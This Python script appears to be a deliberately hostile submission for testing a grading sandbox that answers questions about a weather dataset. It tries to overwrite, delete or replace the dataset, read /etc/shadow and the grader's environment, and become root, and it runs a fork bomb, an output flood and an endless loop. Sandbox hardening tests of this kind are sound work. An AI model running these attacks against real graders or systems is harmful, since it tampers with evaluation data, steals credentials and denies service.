# Means harm: each question of the grader is answered with another attack.
# Whatever succeeds is printed, so that a report of this submission shows what held.
import os
import sys

DATASET = "/tmp/data/observations.csv"


def attempt(what, attack):
    try:
        print(f"{what}: SUCCEEDED {attack()!r}", flush=True)
    except OSError as error:
        print(f"{what}: {error.strerror}", flush=True)


def overwrite():
    with open(DATASET, "w") as file:
        return file.write("date,station,temp_c,rain_mm\n")


def replace():
    with open("/tmp/forged.csv", "w") as file:
        file.write("date,station,temp_c,rain_mm\n")
    return os.replace("/tmp/forged.csv", DATASET)


def move_folder():
    os.rename("/tmp/data", "/tmp/elsewhere")
    os.mkdir("/tmp/data")
    return replace()


def read(path):
    with open(path) as file:
        return file.read(100)


def meddle_with_files():
    attempt("overwrite the dataset", overwrite)
    attempt("make the dataset writable", lambda: os.chmod(DATASET, 0o666))
    attempt("remove the dataset", lambda: os.remove(DATASET))
    attempt("put another file in its place", replace)
    attempt("put another folder in its place", move_folder)
    attempt("read /etc/shadow", lambda: read("/etc/shadow"))
    attempt("read the grader's environment", lambda: read("/proc/1/environ"))
    attempt("become root", lambda: os.setuid(0))


def fork_without_end():
    first = os.getpid()
    while True:
        try:
            os.fork()
        except OSError as error:
            if os.getpid() == first:
                print(f"fork: {error.strerror}", flush=True)
                break


def flood():
    chunk = "x" * 65536
    while True:
        print(chunk)


def never_end():
    while True:
        pass


ATTACKS = {"count": meddle_with_files, "hottest": fork_without_end, "mean": flood, "rain": never_end}

ATTACKS[sys.stdin.readline().split()[0]]()
